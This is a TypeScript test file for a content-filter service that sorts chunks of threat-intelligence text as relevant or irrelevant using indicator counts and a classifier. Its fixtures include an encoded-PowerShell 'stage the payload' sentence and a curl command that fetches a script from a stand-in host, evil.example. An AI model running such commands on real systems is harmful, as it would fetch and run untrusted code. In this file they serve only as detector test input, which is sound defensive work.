import { err, ok } from "neverthrow";
import { describe, expect, it } from "vitest";
import { FatalConfigurationError } from "../../core/entities/appError";
import type { ClassifierModel } from "../../core/entities/contentFilter";
import { parseWorkflowConfig } from "../../core/entities/workflowConfig";
import { StaticClassifierArtifact } from "../../__tests__/support/inMemoryAdapters";
import {
  chunkText,
  ContentFilterService,
  extractFeatures,
  filterContent,
} from "./contentFilterService";

const attackSentence = "Run powershell.exe -enc AAAA to stage the payload.";
const marketingSentence = "Book a demo of our managed EDR platform today.";
const article = `${attackSentence} ${marketingSentence}`;

const filterConfig = (overrides: Record<string, unknown> = {}) =>
  parseWorkflowConfig({
    contentFilter: { chunkSize: 60, overlap: 0, protectedPatterns: [], ...overrides },
  }).contentFilter;

const patternModel: ClassifierModel = {
  version: "patterns-v1",
  bias: 0,
  weights: { relevant_pattern_count: 3, irrelevant_pattern_count: -3 },
};

describe("chunkText", () => {
  it("produces overlapping windows", () => {
    expect(chunkText("abcdefghij", 4, 1)).toEqual([
      { start: 0, end: 4 },
      { start: 3, end: 7 },
      { start: 6, end: 10 },
    ]);
  });

  it("pulls a cut back to the end of a sentence", () => {
    expect(chunkText(article, 60, 0)).toEqual([
      { start: 0, end: 50 },
      { start: 50, end: 97 },
    ]);
  });

  it("skips whitespace-only windows", () => {
    expect(chunkText("abcd    ", 4, 0)).toEqual([{ start: 0, end: 4 }]);
  });
});

describe("extractFeatures", () => {
  it("counts indicators and token shares", () => {
    const features = extractFeatures(
      "Run powershell.exe and cmd via curl http://evil.example/a.sh 10.0.0.1",
      ["powershell", "missing"],
    );

    expect(features.command_count).toBe(3);
    expect(features.url_count).toBe(1);
    expect(features.ip_count).toBe(1);
    expect(features.process_count).toBe(1);
    expect(features.file_path_count).toBe(1);
    expect(features["tok:powershell"]).toBe(1 / 16);
    expect(features["tok:missing"]).toBe(0);
  });
});

describe("filterContent", () => {
  it("keeps chunks the classifier scores above the confidence floor", () => {
    const result = filterContent(article, filterConfig(), patternModel);

    expect(result.filteredText).toBe(attackSentence);
    expect(result.decisions.map((decision) => decision.label)).toEqual([
      "relevant",
      "irrelevant",
    ]);
    expect(result.chunksKept).toBe(1);
    expect(result.chunksRemoved).toBe(1);
    expect(result.originalLength).toBe(97);
    expect(result.filteredLength).toBe(50);
    expect(result.estimatedTokenSavings).toBe(12);
    expect(result.degraded).toBe(false);
    expect(result.classifierVersion).toBe("patterns-v1");
  });

  it("blends keyword and classifier scores by their weights", () => {
    const neutral: ClassifierModel = { version: "neutral", bias: 0, weights: {} };
    const result = filterContent(
      article,
      filterConfig({ keywordWeight: 1, classifierWeight: 1 }),
      neutral,
    );

    expect(result.decisions.map((decision) => decision.confidence)).toEqual([0.75, 0.25]);
    expect(result.decisions.map((decision) => decision.keywordScore)).toEqual([1, 0]);
    expect(result.filteredText).toBe(attackSentence);
  });

  it("always keeps chunks matching a protected pattern", () => {
    const rejectAll: ClassifierModel = { version: "strict", bias: -10, weights: {} };
    const result = filterContent(
      article,
      parseWorkflowConfig({ contentFilter: { chunkSize: 60, overlap: 0 } }).contentFilter,
      rejectAll,
    );

    const [first, second] = result.decisions;
    expect(first?.protected).toBe(true);
    expect(first?.label).toBe("relevant");
    expect(first?.confidence).toBe(1);
    expect(second?.protected).toBe(false);
    expect(second?.label).toBe("irrelevant");
    expect(result.filteredText).toBe(attackSentence);
  });

  it("keeps everything when no classifier is available", () => {
    const result = filterContent(article, filterConfig(), null);

    expect(result.degraded).toBe(true);
    expect(result.classifierVersion).toBe("unavailable");
    expect(result.decisions.every((decision) => decision.probability === null)).toBe(true);
    // Adjacent kept chunks merge back into one span.
    expect(result.filteredText).toBe(article);
  });

  it("is deterministic for the same input and artifact", () => {
    expect(filterContent(article, filterConfig(), patternModel)).toEqual(
      filterContent(article, filterConfig(), patternModel),
    );
  });
});

describe("ContentFilterService", () => {
  it("degrades to keep-all when the artifact is unavailable", async () => {
    const service = new ContentFilterService(
      new StaticClassifierArtifact(err({ kind: "unavailable", message: "missing" })),
    );

    const result = await service.filter(article, filterConfig());

    expect(result.degraded).toBe(true);
    expect(result.chunksRemoved).toBe(0);
  });

  it("refuses to run on a corrupt artifact", async () => {
    const service = new ContentFilterService(
      new StaticClassifierArtifact(
        err({ kind: "corrupt", message: "bad weights", details: ["bias: Required"] }),
      ),
    );

    await expect(service.filter(article, filterConfig())).rejects.toBeInstanceOf(
      FatalConfigurationError,
    );
  });

  it("uses the loaded artifact", async () => {
    const service = new ContentFilterService(new StaticClassifierArtifact(ok(patternModel)));

    const result = await service.filter(article, filterConfig());

    expect(result.classifierVersion).toBe("patterns-v1");
    expect(result.filteredText).toBe(attackSentence);
  });
});
